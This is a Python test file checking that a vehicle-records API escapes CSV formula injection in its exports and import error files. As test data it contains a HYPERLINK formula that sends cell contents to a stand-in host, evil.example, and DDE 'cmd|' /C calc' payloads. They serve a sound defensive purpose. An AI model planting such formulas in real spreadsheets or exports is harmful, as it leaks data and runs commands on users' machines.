"""CSV injection, tried as an attacker: a formula planted in a vehicle's text fields or in an uploaded
import file must reach the admin's spreadsheet as text, never as a formula to run."""

from __future__ import annotations

import asyncio
import csv
import io
from typing import Any

import pytest

from simveb import csvcells
from simveb.actors.vehicles.messages import SeedVehicles

ADMIN = ("vehicles:read", "vehicles:write", "vehicles:import", "config:write")
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")'


@pytest.fixture
async def api(runtime: Any, client: Any) -> Any:
    await runtime.bus.ask(SeedVehicles())
    return client


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_every_trigger_character_is_neutralised(trigger: str) -> None:
    out = io.StringIO()
    csvcells.safe_writer(out).writerow([f"{trigger}cmd|' /C calc'!A0", "plain", 42, -3])
    cells = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert cells == [f"'{trigger}cmd|' /C calc'!A0", "plain", "42", "-3"]


async def test_a_formula_in_a_vehicles_remarks_comes_out_neutralised_in_the_export(api, auth):
    vehicle = {
        "vin": "VF3WCKFU000000666",
        "make": "Peugeot",
        "model": "406",
        "energy": "Gazole",
        "colour": "@SUM(1+1)*cmd|' /C calc'!A0",
        "remarks": FORMULA,
    }
    r = await api.post("/api/vehicles", json=vehicle, headers=auth(*ADMIN, sub="admin-1"))
    assert r.status_code == 201, r.text
    async with api.stream("GET", "/api/vehicles/export", params={"make": "Peugeot"}, headers=auth(*ADMIN)) as r:
        assert r.status_code == 200
        text = (await r.aread()).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1
    assert rows[0]["remarks"] == "'" + FORMULA
    assert rows[0]["colour"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[0]["make"] == "Peugeot"  # ordinary cells untouched


async def test_a_formula_in_an_uploaded_file_comes_out_neutralised_in_the_error_file(api, auth):
    upload = (
        "vin,make,model,energy,remarks\n"
        f'MD2A11CZ5KCA0000Q,Bajaj,Boxer BM 150,Essence,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
        "=1+1,Bajaj,Boxer BM 150,Essence,\n"
    ).encode()
    r = await api.post("/api/vehicles/import", content=upload, headers={**auth(*ADMIN), "Content-Type": "text/csv"})
    assert r.status_code == 202, r.text
    job_id = r.json()["id"]
    for _ in range(200):
        job = (await api.get(f"/api/vehicles/import/{job_id}", headers=auth(*ADMIN))).json()
        if job["state"] in ("done", "failed"):
            break
        await asyncio.sleep(0.05)
    assert job["state"] == "done" and job["rejected"] == 2, job
    errors = await api.get(f"/api/vehicles/import/{job_id}/errors", headers=auth(*ADMIN))
    rows = list(csv.DictReader(io.StringIO(errors.text)))
    assert [r["remarks"] for r in rows] == ["'" + FORMULA, ""]
    assert rows[1]["vin"] == "'=1+1"
    for row in rows:
        assert not any(v.startswith(csvcells.TRIGGERS) for v in row.values())
